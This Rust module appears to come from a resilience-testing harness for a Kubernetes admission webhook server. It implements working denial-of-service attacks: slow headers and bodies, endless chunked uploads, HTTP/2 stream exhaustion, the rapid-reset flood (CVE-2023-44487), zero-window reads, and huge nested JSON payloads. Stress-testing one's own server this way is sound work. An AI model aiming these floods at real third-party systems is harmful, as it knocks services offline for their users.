//! What one stranger does on one connection.

use std::fmt;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, split};
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};
use tokio::time::{interval, sleep};

use super::{Attack, frames, repeated};
use crate::client::Client;

/// How many streams one connection has open at once.
const STREAMS: usize = 125;

/// What all strangers share.
pub(super) struct Stranger {
    pub(super) client: Client,
    pub(super) address: SocketAddr,
    pub(super) path: String,
    pub(super) body: Bytes,
    pub(super) counts: Counts,
}

/// How often it was done.
#[derive(Debug, Default)]
pub(super) struct Counts {
    connections: AtomicU64,
    refused: AtomicU64,
    requests: AtomicU64,
}

impl fmt::Display for Counts {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [connections, refused, requests] =
            [&self.connections, &self.refused, &self.requests].map(|count| count.load(Ordering::Relaxed));
        write!(formatter, "{connections} connections ({refused} failed), {requests} requests")
    }
}

/// What is sent where a body is sent whole.
pub(super) fn body(attack: Attack) -> Bytes {
    const REVIEW: &str = r#"{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"7",
        "resource":{"group":"","version":"v1","resource":"pods"},"namespace":"bob","operation":"CREATE","object":"#;
    match attack {
        Attack::DeepJson => repeated("", "[", 3_000_000, ""),
        Attack::ManyContainers => {
            let head = format!(r#"{REVIEW}{{"spec":{{"containers":[{{}}"#);
            repeated(&head, ",{}", 2_000_000, "]}}}}")
        }
        Attack::UnreadAnswers => {
            let items: Vec<String> = (0..64).map(|item| format!("secret:k:/var/secrets/{item}")).collect();
            let annotations = format!(r#"{{"secrets.apolo.us/volume":"{}"}}"#, items.join(","));
            let head = format!(r#"{REVIEW}{{"metadata":{{"annotations":{annotations}}},"spec":{{"containers":[{{}}"#);
            repeated(&head, ",{}", 120, "]}}}}")
        }
        _ => Bytes::new(),
    }
}

impl Stranger {
    /// Comes once, and stays until the server ends it.
    pub(super) async fn come(&self, attack: Attack) {
        if matches!(attack, Attack::DeepJson | Attack::ManyContainers) {
            return self.ask().await;
        }
        self.counts.connections.fetch_add(1, Ordering::Relaxed);
        let Ok(stream) = self.client.connect(self.address).await else {
            self.counts.refused.fetch_add(1, Ordering::Relaxed);
            return;
        };
        let (reader, writer) = split(stream);
        let head = |length: &str| format!("POST {} HTTP/1.1\r\nhost: localhost\r\n{length}\r\n\r\n", self.path);
        match attack {
            Attack::SlowHeaders => {
                let bytes = head(&format!("x: {}", "x".repeat(200)));
                until_told(reader, trickle(writer, "", bytes.as_bytes())).await;
            }
            Attack::SlowBodies => {
                self.counts.requests.fetch_add(1, Ordering::Relaxed);
                until_told(reader, trickle(writer, &head("content-length: 1000000"), &[b' '; 1000])).await;
            }
            Attack::EndlessBodies => {
                self.counts.requests.fetch_add(1, Ordering::Relaxed);
                until_told(reader, flood(writer, &head("transfer-encoding: chunked"))).await;
            }
            Attack::SlowStreams => {
                let (sender, answered) = unbounded_channel();
                tokio::select! {
                    _ = frames::read(reader, sender) => {}
                    _ = self.keep_streams(writer, answered) => {}
                }
            }
            Attack::Resets => until_ended(reader, self.reset(writer)).await,
            Attack::UnreadAnswers => until_ended(reader, self.ask_without_window(writer)).await,
            _ => until_ended(reader, std::future::pending()).await,
        }
    }

    /// Sends the body on a connection of its own, as an honest client would.
    async fn ask(&self) {
        self.counts.connections.fetch_add(1, Ordering::Relaxed);
        let Ok(connection) = self.client.http2(self.address).await else {
            self.counts.refused.fetch_add(1, Ordering::Relaxed);
            return;
        };
        for _ in 0..20 {
            self.counts.requests.fetch_add(1, Ordering::Relaxed);
            let _ = connection.post(&self.path, self.body.clone()).await;
            sleep(Duration::from_millis(50)).await;
        }
    }

    /// Keeps as many streams open as one may, each with a body that never ends; where one is answered, opens another.
    async fn keep_streams(
        &self,
        mut writer: impl AsyncWrite + Unpin,
        mut answered: UnboundedReceiver<u32>,
    ) -> std::io::Result<()> {
        let (block, mut next, mut open) = (frames::post(&self.path), 1, Vec::new());
        writer.write_all(&frames::preface(&[])).await?;
        let mut turns = interval(Duration::from_millis(500));
        loop {
            turns.tick().await;
            while let Ok(stream) = answered.try_recv() {
                open.retain(|known| *known != stream);
            }
            let mut bytes = Vec::new();
            while open.len() < STREAMS {
                self.counts.requests.fetch_add(1, Ordering::Relaxed);
                frames::push(&mut bytes, frames::HEADERS, frames::WHOLE, next, &block);
                open.push(next);
                next += 2;
            }
            for stream in &open {
                frames::push(&mut bytes, frames::DATA, 0, *stream, b" ");
            }
            writer.write_all(&bytes).await?;
        }
    }

    /// Opens streams and resets them in the same breath (CVE-2023-44487), 10,000 a second.
    async fn reset(&self, mut writer: impl AsyncWrite + Unpin) -> std::io::Result<()> {
        writer.write_all(&frames::preface(&[])).await?;
        let (block, mut stream) = (frames::post(&self.path), 1);
        loop {
            let mut bytes = Vec::new();
            for _ in 0..100 {
                frames::push(&mut bytes, frames::HEADERS, frames::WHOLE, stream, &block);
                frames::push(&mut bytes, frames::RST_STREAM, 0, stream, &frames::CANCEL);
                stream += 2;
            }
            self.counts.requests.fetch_add(100, Ordering::Relaxed);
            writer.write_all(&bytes).await?;
            sleep(Duration::from_millis(10)).await;
        }
    }

    /// Asks for large answers, and takes nothing of them.
    async fn ask_without_window(&self, mut writer: impl AsyncWrite + Unpin) -> std::io::Result<()> {
        writer.write_all(&frames::preface(&frames::NO_WINDOW)).await?;
        let block = frames::post(&self.path);
        for stream in 0..100 {
            let (mut bytes, stream) = (Vec::new(), stream * 2 + 1);
            frames::push(&mut bytes, frames::HEADERS, frames::WHOLE, stream, &block);
            frames::push(&mut bytes, frames::DATA, frames::END, stream, &self.body);
            self.counts.requests.fetch_add(1, Ordering::Relaxed);
            writer.write_all(&bytes).await?;
            sleep(Duration::from_millis(10)).await;
        }
        std::future::pending().await
    }
}

/// Writes a head at once, then four bytes a second.
async fn trickle(mut writer: impl AsyncWrite + Unpin, head: &str, bytes: &[u8]) -> std::io::Result<()> {
    writer.write_all(head.as_bytes()).await?;
    for byte in bytes {
        writer.write_u8(*byte).await?;
        writer.flush().await?;
        sleep(Duration::from_millis(250)).await;
    }
    Ok(())
}

/// Writes a body of 1 GiB in chunks of 64 KiB, 13 MB a second.
async fn flood(mut writer: impl AsyncWrite + Unpin, head: &str) -> std::io::Result<()> {
    writer.write_all(head.as_bytes()).await?;
    let chunk = [b"10000\r\n".as_slice(), &[b' '; 1 << 16], b"\r\n"].concat();
    for _ in 0..1 << 14 {
        writer.write_all(&chunk).await?;
        writer.flush().await?;
        sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Goes on until the server says anything, or ends the connection.
async fn until_told(mut reader: impl AsyncRead + Unpin, write: impl Future<Output = std::io::Result<()>>) {
    let mut first = [0; 1];
    tokio::select! {
        _ = reader.read(&mut first) => {}
        _ = write => {}
    }
}

/// Goes on until the server ends the connection.
async fn until_ended(mut reader: impl AsyncRead + Unpin, write: impl Future<Output = std::io::Result<()>>) {
    let mut rest = vec![0; 1 << 14];
    tokio::select! {
        () = async { while reader.read(&mut rest).await.is_ok_and(|read| read > 0) {} } => {}
        _ = write => {}
    }
}
